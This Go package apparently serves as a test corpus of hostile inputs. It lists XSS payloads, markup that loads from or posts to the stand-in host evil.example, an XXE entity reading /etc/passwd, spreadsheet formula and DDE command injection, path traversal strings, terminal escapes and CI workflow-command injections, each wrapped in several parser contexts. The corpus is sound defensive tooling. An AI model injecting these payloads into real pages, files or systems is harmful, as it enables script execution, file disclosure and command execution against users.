// Package attack is texts that try to become more than text where people or
// their tools read them. It is for tests, of pages and of files.
package attack

import "strings"

// Host is where attacks would lead to. A test that listens puts its own address
// in its place.
const Host = "evil.example"

// attacks are texts that would be markup, a formula, a link, a command or the
// end of something in one of the formats.
func attacks() []string {
	return []string{
		`<script>alert(1)</script>`, `</script><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</pre><img src=x onerror=alert(1)>`,
		`<img src=//evil.example/x.png>`, `<svg onload=alert(1)>`, `<svg><use href="//evil.example/#x"/></svg>`, `<iframe src="https://evil.example"></iframe>`, `<object data=//evil.example>`,
		`<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example>`, `<form action=//evil.example><button>go</button></form>`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
		`<a href="javascript:alert(1)">x</a>`, `<details open ontoggle=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, "` onmouseover=`alert(1)", `x" style="background:url(//evil.example)`, `x onerror=alert(1) y`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`,
		`<!--`, `-->`, `<!--><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`, `]]>`, `<?xml version="1.0"?>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, `&e;`, `&#60;script&#62;`, `&lt;script&gt;`, `&`, `&amp`, `</testcase></testsuite>`,
		"![x](//evil.example/x.png)", "[x](javascript:alert(1))", "[x]: //evil.example", "https://evil.example", "www.evil.example", "@everybody", "#123", "**bold**", "~~~\nx\n~~~", "```\nx\n```", "`x`", "``x`", "`", "a | b | c", "|---|---|", "\\|", "\\`", "\n\n# Heading\n\n", "\n- [x] item", "\n---\n", "<https://evil.example>", ":smile:", "$\\href{javascript:alert(1)}{x}$",
		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", `=HYPERLINK("//evil.example")`, `=cmd|' /C calc'!A0`,
		"{{.}}", "{{template \"top\"}}", "${x}", "<%= x %>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "jAvAsCrIpT:alert(1)",
		"\x1b]8;;//evil.example\x07x\x1b]8;;\x07", "\x1b[2J", "\u202eevil", "\u2028alert(1)", "\u2029", "\ufeff<script>", "\x00<script>", "<scr\x00ipt>", "\xff\xfe<script>", "\xed\xa0\xbd", "<\u0338script>", "＜script＞", "+ADw-script+AD4-", "\u200b=1", "../../etc/passwd", "..\\..\\x", "C:\\x", "CON", "a/b", "a\nb", "a\r\nb", "::error::x", "::set-output name=x::y", "%0A::error::x", strings.Repeat("<b>", 400), strings.Repeat("`", 300), strings.Repeat("&", 3000), strings.Repeat("a\u0301", 300),
	}
}

// Texts is each attack by itself and in places where a parser is in another
// state: more than five hundred.
func Texts() []string {
	var all []string
	for _, a := range attacks() {
		all = append(all, a, "x "+a+" y", a+a, "``"+a, a+"\n"+a+"\\")
	}
	return all
}
